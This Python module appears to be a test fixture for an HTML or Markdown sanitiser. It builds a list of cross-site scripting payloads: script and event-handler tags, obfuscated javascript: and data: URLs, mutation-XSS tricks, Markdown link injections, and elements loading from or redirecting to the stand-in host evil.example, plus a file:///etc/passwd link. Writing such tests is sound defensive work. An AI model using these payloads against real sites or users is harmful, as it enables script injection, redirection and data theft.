"""Notes as somebody would write them who wants a reader's browser to run something: one payload a line or block.

Each would set `window.ran`, ask for `evil.example`, leave the page, or stand as an element that we did not write.
"""

ELSEWHERE = "evil.example"
RUN = "window.ran=1"
_HANDLERS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin", "onpointerenter",
    "onscroll", "ontransitionend", "onbeforeinput",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}", " javascript:{}",
    "javascript&colon;{}", "javascript&#58;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "javascript:/*--></title>*/{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "vbscript:{}", "blob:{}", "file:///etc/passwd", "//javascript:{}", "feed:javascript:{}", "view-source:javascript:{}",
    "ｊavascript:{}", "jav&#x0A;ascript:{}", "javascript:%0a{}", "javascript://%0a{}", "mhtml:javascript:{}",
)  # fmt: skip
_ELEMENTS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script src=//evil.example/a.js></script>", "<scr<script>ipt>{}</script>",
    "<svg><script>{}</script></svg>", "<svg onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=//evil.example></iframe>", "<object data=javascript:{}></object>", "<embed src=javascript:{}>",
    "<form action=//evil.example><button>Send</button></form>", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
    "<body onload={}>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<style>@import '//evil.example/a.css';</style>",
    "<p style=\"background:url(//evil.example/a.png)\">x</p>", "<table background=//evil.example/a.png>", "<video><source onerror={}></video>",
    "<marquee onstart={}>x</marquee>", "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<xmp><p title=\"</xmp><img src=x onerror={}>\">", "<textarea></textarea><img src=x onerror={}>", "</textarea><script>{}</script>",
    "</title><script>{}</script>", "<!--><img src=x onerror={}>-->", "<![CDATA[><img src=x onerror={}>]]>", "<?xml-stylesheet href='javascript:{}'?>",
    "<a href=javascript:{}>a</a>", "<a target=_blank href=//evil.example onclick={}>a</a>", "<button formaction=javascript:{}>b</button>",
    "<img src=x:x onerror={}>", "<img src=\"x` `<script>{}</script>\"` `>", "<div contenteditable onbeforeinput={}>", "<common-hour src=//evil.example></common-hour>",
    "<slot onslotchange={}>", "<dialog open onclose={}>", "<p hx-get=//evil.example data-copy={}>", "<time class=relative datetime=\"><script>{}</script>\">",
)  # fmt: skip
_MARKDOWN = (
    "[a](<javascript:{}>)", "[a]: javascript:{}\n\n[a]", "<javascript:{}>", "![x](javascript:{})", "![x](//evil.example/a.png)",
    "![x](https://evil.example/a.png)", "[![x](https://evil.example/a.png)](javascript:{})", "[a](https://evil.example \"x\" onmouseover={})",
    "[a](https://evil.example/\"onmouseover={})", "`<img src=x onerror={}>`", "```\n</code></pre><script>{}</script>\n```",
    "```\"><img src=x onerror={}>\nx\n```", "| <script>{}</script> | b |\n|---|---|\n| <img src=x onerror={}> | c |",
    "- [ ] <img src=x onerror={}>", "- [x] @<svg/onload={}> text by 2026-12-01", "# <img src=x onerror={}>", "> <img src=x onerror={}>",
    "DECISION: <img src=x onerror={}>", "ACTION: @\"><img/src=x/onerror={}> write by 2026-12-01", "TOPIC: </h2><script>{}</script>",
    "INFO: [a](javascript:{})", "Present: <script>{}</script>, \"><img src=x onerror={}>", "Regrets: </textarea><script>{}</script>",
    "**Decision**: </script><script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "\\<script\\>{}\\</script\\>", "[a][b]\n\n[b]: <//evil.example> '\"><script>{}</script>'",
    "<https://evil.example/\"onclick={}>", "www.evil.example/\"onmouseover={}", "a\u2028<script>{}</script>", "\ufeff<script>{}</script>",
    "]]></content><script>{}</script>", "--></style><script>{}</script>", "{{% raw %}}<script>{}</script>", "{{{{ 7|add:7 }}}}<script>{}</script>",
)  # fmt: skip
_HANDLED = tuple(f"<img src=x {name}=alert(1) {name.upper()}={{}}>" for name in _HANDLERS)
PAYLOADS = [
    *(one.format(*[RUN] * one.count("{}")) for one in (*_ELEMENTS, *_MARKDOWN, *_HANDLED)),
    *(f"[link]({one.format(RUN)})" for one in _SCHEMES),
]
